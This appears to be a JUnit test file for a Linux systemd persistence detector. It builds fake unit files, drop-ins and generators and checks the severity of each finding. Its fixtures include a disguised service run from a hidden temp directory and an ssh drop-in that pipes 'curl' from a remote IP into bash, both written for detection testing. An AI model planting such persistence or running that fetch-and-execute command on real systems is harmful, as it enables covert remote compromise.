package dev.ward.detect.builtin;

import static org.junit.jupiter.api.Assertions.assertEquals;

import dev.ward.model.Finding;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class SystemdDetectorTest {
    private static final String EVIL = "[Unit]\nDescription=Network Name Resolution Helper\n\n[Service]\n"
            + "ExecStart=/tmp/.X11-unix/.rsync --daemon -q\nRestart=always\n\n[Install]\nWantedBy=multi-user.target\n";

    @TempDir
    Path dir;

    @Test
    void enabledUnitFromHiddenTempDirIsHigh() throws Exception {
        String unit = "/etc/systemd/system/dbus-org.freedesktop.resolve2.service";
        String link = "/etc/systemd/system/multi-user.target.wants/dbus-org.freedesktop.resolve2.service";
        PackagedRoot root = new PackagedRoot(dir).write(unit, EVIL).symlink(link, unit);
        List<Finding> f = root.run(new SystemdDetector());
        assertEquals(List.of("high linux.systemd.unowned_enabled_unit " + unit + "," + link), PackagedRoot.brief(f));
        assertEquals(5, f.getFirst().evidence().get("line"));
        assertEquals("/tmp/.X11-unix/.rsync --daemon -q", f.getFirst().evidence().get("command"));
        assertEquals(List.of(link), f.getFirst().evidence().get("enabled_by"));
        assertEquals("no package", f.getFirst().evidence().get("package"));
    }

    @Test
    void unownedUnitWithOrdinaryProgramIsMediumAndDisabledIsQuiet() throws Exception {
        PackagedRoot root = new PackagedRoot(dir)
                .write("/etc/systemd/system/backup.service", "[Service]\nExecStart=-/usr/local/bin/backup --all\n")
                .write("/etc/systemd/system/backup.timer", "[Timer]\nOnCalendar=daily\n")
                .symlink("/etc/systemd/system/timers.target.wants/backup.timer", "../backup.timer")
                .write("/etc/systemd/system/idle.service", "[Service]\nExecStart=/tmp/idle\n");
        List<Finding> f = root.run(new SystemdDetector());
        assertEquals(List.of("medium linux.systemd.unowned_enabled_unit /etc/systemd/system/backup.service,"
                        + "/etc/systemd/system/backup.timer",
                "medium linux.systemd.unowned_enabled_unit /etc/systemd/system/backup.timer,"
                        + "/etc/systemd/system/timers.target.wants/backup.timer"), PackagedRoot.brief(f));
        assertEquals("/usr/local/bin/backup --all", f.getFirst().evidence().get("command"));
    }

    @Test
    void userUnitAndDropInOfPackagedUnit() throws Exception {
        PackagedRoot root = new PackagedRoot(dir)
                .write("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nbob:x:1000:1000::/home/bob:/bin/bash\n")
                .packaged("openssh-server", "/lib/systemd/system/ssh.service", "[Service]\nExecStart=/usr/sbin/sshd -D\n")
                .symlink("/etc/systemd/system/multi-user.target.wants/ssh.service", "/lib/systemd/system/ssh.service")
                .write("/etc/systemd/system/ssh.service.d/override.conf",
                        "[Service]\nExecStartPost=/bin/sh -c 'curl -s http://203.0.113.9/a | bash'\n")
                .write("/home/bob/.config/systemd/user/sync.service", "[Service]\nExecStart=%h/.local/.sync\n")
                .symlink("/home/bob/.config/systemd/user/default.target.wants/sync.service", "../sync.service");
        assertEquals(List.of("high linux.systemd.unowned_drop_in /etc/systemd/system/ssh.service.d/override.conf,"
                        + "/etc/systemd/system/multi-user.target.wants/ssh.service",
                "high linux.systemd.unowned_enabled_unit /home/bob/.config/systemd/user/sync.service,"
                        + "/home/bob/.config/systemd/user/default.target.wants/sync.service"),
                PackagedRoot.brief(root.run(new SystemdDetector())));
    }

    @Test
    void packagedAndMaskedUnitsAreQuiet() throws Exception {
        PackagedRoot root = new PackagedRoot(dir)
                .packaged("cron", "/lib/systemd/system/cron.service", "[Service]\nExecStart=/usr/sbin/cron -f\n")
                .symlink("/etc/systemd/system/multi-user.target.wants/cron.service", "/lib/systemd/system/cron.service")
                .packaged("getty", "/usr/lib/systemd/system/getty@.service", "[Service]\nExecStart=-/sbin/agetty %I\n")
                .symlink("/etc/systemd/system/getty.target.wants/getty@tty1.service", "/lib/systemd/system/getty@.service")
                .write("/usr/lib/systemd/system/evil.service", EVIL)
                .symlink("/etc/systemd/system/evil.service", "/dev/null")
                .symlink("/etc/systemd/system/multi-user.target.wants/evil.service", "/usr/lib/systemd/system/evil.service");
        assertEquals(List.of(), root.run(new SystemdDetector()));
    }

    @Test
    void dropInOfDisabledPackagedUnitIsReported() throws Exception {
        PackagedRoot root = new PackagedRoot(dir)
                .packaged("openssh-server", "/lib/systemd/system/ssh.service", "[Service]\nExecStart=/usr/sbin/sshd -D\n")
                .write("/etc/systemd/system/ssh.service.d/10-pre.conf", "[Service]\nExecStartPre=/var/tmp/.k/prep\n")
                .write("/run/systemd/system/cron.service.d/limits.conf", "[Service]\nLimitNOFILE=4096\n");
        List<Finding> f = root.run(new SystemdDetector());
        assertEquals(List.of("high linux.systemd.unowned_drop_in /etc/systemd/system/ssh.service.d/10-pre.conf",
                "medium linux.systemd.unowned_drop_in /run/systemd/system/cron.service.d/limits.conf"), PackagedRoot.brief(f));
        assertEquals("ssh.service", f.getFirst().evidence().get("unit"));
        assertEquals("runs /var/tmp/.k/prep", f.getFirst().evidence().get("indicator"));
    }

    @Test
    void dependenciesOfTargetsAndEnabledUnitsEnable() throws Exception {
        PackagedRoot root = new PackagedRoot(dir)
                .packaged("systemd", "/usr/lib/systemd/system/multi-user.target", "[Unit]\nDescription=Multi-User\n")
                // A target nothing pulls in is not enabled, but any target's dependencies are started with it.
                .write("/etc/systemd/system/helper.target", "[Unit]\nWants=agent.path\n")
                .write("/usr/local/lib/systemd/system/agent.path", "[Path]\nPathExists=/run/go\nUnit=agent.service\n")
                .write("/usr/local/lib/systemd/system/agent.service", "[Service]\nExecStart=/usr/local/bin/agent\n")
                .write("/etc/systemd/system/watch.socket", "[Unit]\nOnFailure=rescue-shell.service\n[Socket]\nListenStream=7\n")
                .symlink("/etc/systemd/system/sockets.target.wants/watch.socket", "../watch.socket")
                .write("/etc/systemd/system/watch.service", "[Service]\nExecStart=/usr/local/bin/watch\n")
                .write("/etc/systemd/system.control/rescue-shell.service", "[Service]\nExecStart=/bin/sh -i\n")
                .write("/home/bob/.local/share/systemd/user/x.service", "[Service]\nExecStart=/dev/shm/x\n")
                .symlink("/home/bob/.local/share/systemd/user/default.target.wants/x.service", "../x.service")
                .write("/etc/passwd", "bob:x:1000:1000::/home/bob:/bin/bash\n");
        List<String> f = PackagedRoot.brief(root.run(new SystemdDetector()));
        assertEquals(List.of(
                "medium linux.systemd.unowned_enabled_unit /etc/systemd/system.control/rescue-shell.service,"
                        + "/etc/systemd/system/watch.socket",
                "medium linux.systemd.unowned_enabled_unit /etc/systemd/system/watch.service,"
                        + "/etc/systemd/system/watch.socket",
                "medium linux.systemd.unowned_enabled_unit /etc/systemd/system/watch.socket,"
                        + "/etc/systemd/system/sockets.target.wants/watch.socket",
                "medium linux.systemd.unowned_enabled_unit /usr/local/lib/systemd/system/agent.path,"
                        + "/etc/systemd/system/helper.target",
                "medium linux.systemd.unowned_enabled_unit /usr/local/lib/systemd/system/agent.service,"
                        + "/usr/local/lib/systemd/system/agent.path",
                "high linux.systemd.unowned_enabled_unit /home/bob/.local/share/systemd/user/x.service,"
                        + "/home/bob/.local/share/systemd/user/default.target.wants/x.service"), f);
    }

    @Test
    void unpackagedGeneratorIsHigh() throws Exception {
        PackagedRoot root = new PackagedRoot(dir)
                .packaged("systemd", "/lib/systemd/system-generators/systemd-fstab-generator", "\u007fELF")
                .chmod("/lib/systemd/system-generators/systemd-fstab-generator", "rwxr-xr-x")
                .write("/etc/systemd/system-generators/net-wait", "#!/bin/sh\n/var/tmp/.n &\n")
                .chmod("/etc/systemd/system-generators/net-wait", "rwxr-xr-x")
                .write("/usr/local/lib/systemd/user-generators/README", "not executable\n");
        assertEquals(List.of("high linux.systemd.unowned_generator /etc/systemd/system-generators/net-wait"),
                PackagedRoot.brief(root.run(new SystemdDetector())));
    }
}
